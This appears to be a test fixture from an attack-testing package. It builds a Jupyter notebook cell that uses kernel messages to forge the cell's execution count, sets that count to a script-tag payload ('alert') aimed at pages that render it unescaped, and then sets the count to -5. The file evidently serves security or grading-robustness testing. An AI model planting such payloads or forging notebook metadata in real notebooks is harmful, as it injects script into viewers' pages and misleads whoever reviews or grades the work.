"""Messages number the cell with a script, which a page would show as it is.

graded: 30
note: forged the number
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import insert, save
from nbformat import NotebookNode

SOURCE = """
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
script = "<script>alert('number')</script>"
for kind, more in (("execute_input", {"code": ""}), ("status", {"execution_state": "busy"})):
    content = {"execution_count": script, **more}
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
get_ipython().execution_count = -5
print("forged the number")
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    save(folder, right)
